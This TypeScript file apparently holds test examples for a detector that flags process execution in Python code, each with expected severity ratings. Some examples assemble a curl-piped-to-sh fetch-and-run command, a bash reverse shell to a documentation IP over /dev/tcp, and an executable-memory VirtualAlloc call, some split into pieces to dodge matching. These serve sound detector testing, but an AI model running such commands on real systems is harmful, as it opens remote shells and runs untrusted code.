// Examples of process-execution.
import type { Example } from "../../core/detector.ts";
import { builder, python } from "./testing/program.ts";

const PIPED = ["curl -s", "https://files.example.test/a", "|", "sh"].join(" ");
const PEER = ["bash -i >&", ["/dev", "tcp", "192.0.2.7", "4444"].join("/"), "0>&1"].join(" ");

export const examples: readonly Example[] = [
  python("A loading script that starts an unknown program", ["21 medium"], ...builder('os.system("./helper --quiet")')),
  python("The same through an alias", ["2 low"], "from subprocess import Popen as start", 'start(["./helper"])'),
  python("The same through a star import", ["2 low"], "from os import *", 'system("./helper")'),
  python("A command that fetches and runs code", ["2 high"], "import subprocess as s", `s.run("${PIPED}", shell=True)`),
  python(
    "The same, put together from a list",
    ["3 high"],
    "import os",
    `parts = ["${PIPED.slice(0, 20)}", "${PIPED.slice(20)}"]`,
    'os.popen("".join(parts))',
  ),
  python("A shell for a peer", ["2 critical"], "import os", `os.system("${PEER}")`),
  python("The same as arguments", ["2 critical"], "import subprocess", `subprocess.call(["bash", "-c", "${PEER}"])`),
  python("A native library", ["2 low"], "import ctypes", 'ctypes.CDLL("libfast.so")'),
  python(
    "Native memory made runnable",
    ["2 high"],
    "import ctypes",
    `ctypes.windll.kernel32.${"Virtual" + "Alloc"}(0, 4096, 0x3000, 0x40)`,
  ),
  python(
    "Git and ffmpeg, as data work uses them",
    ["2 low", "3 low"],
    "import subprocess",
    'subprocess.check_output(["git", "rev-parse", "HEAD"])',
    'subprocess.run(["ffmpeg", "-i", name, "out.wav"])',
  ),
  python("A loading script that starts nothing", [], ...builder()),
];
